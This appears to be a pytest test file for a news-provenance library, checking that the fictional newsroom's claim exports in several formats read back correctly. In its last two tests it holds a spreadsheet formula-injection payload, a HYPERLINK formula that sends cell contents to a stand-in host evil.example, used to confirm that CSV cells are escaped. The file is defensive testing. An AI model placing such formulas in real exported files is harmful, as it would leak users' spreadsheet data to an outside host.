"""Every export of the fictional newsroom, read back with the library that reads that format."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from datetime import date

import networkx as nx
import pytest
import rdflib
from prov.model import ProvDocument
from rdflib.namespace import PROV

from sourcetrace.linking import ClaimTrace
from sourcetrace.provenance import FORMATS, claim_graph, claim_jsonld, write_export
from sourcetrace.provenance.exports import CSV_FIELDS, spreadsheet_safe
from sourcetrace.records import DateMention

SCHEMA = rdflib.Namespace("https://schema.org/")
# prov's and rdflib's own use of rdflib's deprecated ConjunctiveGraph API: not ours to fix.
pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning:rdflib.*")


def export(traces: list[ClaimTrace], fmt: str) -> str:
    out = io.StringIO()
    assert write_export(iter(traces), out, fmt) == len(traces)
    return out.getvalue()


def test_jsonl(traces: list[ClaimTrace]) -> None:
    rows = [json.loads(line) for line in export(traces, "jsonl").splitlines()]
    assert [r["id"] for r in rows] == [t.id for t in traces]
    big = next(r for r in rows if r["appearances"] == 4)
    assert big["first_outlet"] == "Nordwire" and big["single_sourced"] is True
    assert {m["kind"] for m in big["mutations"]} == {"number", "hedge-dropped", "hedge-added"}


def test_csv_has_every_appearance(traces: list[ClaimTrace]) -> None:
    rows = list(csv.DictReader(io.StringIO(export(traces, "csv"))))
    assert tuple(rows[0].keys()) == CSV_FIELDS
    assert len(rows) == sum(len(t.timeline) for t in traces)
    post = next(r for r in rows if r["outlet"] == "Evening Post")
    assert set(post["mutations"].split()) == {"number", "hedge-dropped", "hedge-added"}
    assert post["chain"] == "Igor Korotchenko"
    assert (post["cue"], post["cue_class"]) == ("said", "assert")


def test_graphml(traces: list[ClaimTrace]) -> None:
    back = nx.read_graphml(io.StringIO(export(traces, "graphml")), force_multigraph=True)
    g = claim_graph(traces)
    assert set(back.nodes) == set(g.nodes)
    assert back.number_of_edges() == g.number_of_edges()
    assert {d["kind"] for _, _, d in back.edges(data=True)} == {"reports", "quotes", "cites", "repeats"}


def test_prov_json(traces: list[ClaimTrace]) -> None:
    text = export(traces, "prov-json")
    doc = ProvDocument.deserialize(content=text, format="json")
    records = {type(r).__name__ for r in doc.get_records()}
    assert {"ProvEntity", "ProvAgent", "ProvAttribution", "ProvDerivation"} <= records
    raw = json.loads(text)
    for relation in ("wasAttributedTo", "wasDerivedFrom", "entity", "agent"):
        assert raw.get(relation), relation
    derivations = raw["wasDerivedFrom"].values()
    kinds = {d.get("prov:type", {}).get("$") if isinstance(d.get("prov:type"), dict) else d.get("prov:type")
             for d in derivations}
    assert {"prov:Quotation", "prov:PrimarySource"} <= kinds  # wasQuotedFrom / hadPrimarySource
    assert doc == ProvDocument.deserialize(content=doc.serialize(format="json"), format="json")


def test_prov_turtle(traces: list[ClaimTrace]) -> None:
    text = export(traces, "prov-turtle")
    doc = ProvDocument.deserialize(content=text, format="rdf", rdf_format="turtle")
    assert len(doc.get_records()) > 10
    g = rdflib.Graph().parse(data=text, format="turtle")
    assert (None, PROV.wasQuotedFrom, None) in g
    assert (None, PROV.hadPrimarySource, None) in g
    assert (None, PROV.wasDerivedFrom, None) in g
    assert (None, PROV.wasAttributedTo, None) in g
    articles = set(g.subjects(rdflib.RDF.type, SCHEMA.NewsArticle))
    assert len(articles) == len({a.article_id for t in traces for a in t.timeline})


def test_jsonld_claims(traces: list[ClaimTrace]) -> None:
    data = json.loads(export(traces, "jsonld"))
    assert len(data["@graph"]) == len(traces)
    g = rdflib.Graph().parse(data=json.dumps(data), format="json-ld")
    claims = set(g.subjects(rdflib.RDF.type, SCHEMA.Claim))
    assert len(claims) == len(traces)
    big = next(t for t in traces if len(t.timeline) == 4)
    one = claim_jsonld(big)
    assert one["@type"] == "Claim" and one["author"] == {"@type": "Person", "name": "Igor Korotchenko"}
    assert one["firstAppearance"]["publisher"]["name"] == "Nordwire"
    assert len(one["appearance"]) == 4
    g1 = rdflib.Graph().parse(data=json.dumps(one), format="json-ld")
    subject = rdflib.URIRef(one["@id"])
    assert len(set(g1.objects(subject, SCHEMA.appearance))) == 4
    first = g1.value(subject, SCHEMA.firstAppearance)
    assert str(g1.value(first, SCHEMA.datePublished)) == "2026-03-01T08:00:00+00:00"


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_is_never_capped(traces: list[ClaimTrace], fmt: str) -> None:
    many = [t for _ in range(40) for t in traces]  # repeats: every one is written
    out = io.StringIO()
    assert write_export(iter(many), out, fmt) == len(many)


def test_unknown_format(traces: list[ClaimTrace]) -> None:
    with pytest.raises(ValueError, match="unknown export format"):
        write_export(iter(traces), io.StringIO(), "xml")


def test_dates_reach_the_csv_and_the_claims_temporal_coverage(traces: list[ClaimTrace]) -> None:
    big = next(t for t in traces if len(t.timeline) == 4)
    assert "temporalCoverage" not in claim_jsonld(big)            # no dates in the claim: none claimed
    monday = DateMention((0, 6), "Monday", date(2026, 3, 2), date(2026, 3, 2), "day", None, True)
    spring = DateMention((9, 15), "spring", date(2026, 3, 1), date(2026, 5, 31), "season", None, True)
    unplaced = DateMention((20, 27), "Tuesday", None, None, None, None, True)
    first = dataclasses.replace(big.first, dates=(monday, spring, unplaced))
    dated = dataclasses.replace(big, first=first, timeline=(first, *big.timeline[1:]))
    assert claim_jsonld(dated)["temporalCoverage"] == "2026-03-01/2026-05-31"
    only_monday = dataclasses.replace(dated, first=dataclasses.replace(first, dates=(monday,)))
    assert claim_jsonld(only_monday)["temporalCoverage"] == "2026-03-02"
    rows = list(csv.DictReader(io.StringIO(export([dated], "csv"))))
    assert rows[0]["dates"] == "Monday = 2026-03-02 | spring = 2026-03-01 – 2026-05-31 | Tuesday = unplaced"
    assert [r["dates"] for r in rows[1:]] == ["", "", ""]
    line = json.loads(export([dated], "jsonl"))
    assert line["first"]["dates"][0] == monday.to_dict() and line["timeline"][0]["dates"][2]["start"] is None


@pytest.mark.parametrize("value, written", [
    ("=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")"),
    ("+1 555 0100", "'+1 555 0100"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tcmd", "'\tcmd"),
    ("＝1+1", "'＝1+1"),                   # a full-width equals sign, which spreadsheets also read
    ("Talks collapsed, she said", "Talks collapsed, she said"), ("", ""), (-2.5, -2.5), (7, 7), (None, None),
])
def test_spreadsheet_safe(value: object, written: object) -> None:
    assert spreadsheet_safe(value) == written


def test_csv_cells_from_article_text_never_open_a_formula(traces: list[ClaimTrace]) -> None:
    big = next(t for t in traces if len(t.timeline) == 4)
    payload = '=HYPERLINK("http://evil.example/?"&A1, "more")'
    first = dataclasses.replace(big.first, text=payload, speaker="@mallory", title="-1 dead")
    hostile = dataclasses.replace(big, text=payload, first=first, timeline=(first, *big.timeline[1:]))
    rows = list(csv.DictReader(io.StringIO(export([hostile], "csv"))))
    assert (rows[0]["claim_text"], rows[0]["text"]) == ("'" + payload, "'" + payload)
    assert (rows[0]["speaker"], rows[0]["title"]) == ("'@mallory", "'-1 dead")
    assert rows[1]["text"] == big.timeline[1].text                  # ordinary text is left alone
    assert rows[0]["appearance"] == "1" and rows[0]["similarity"] == ""
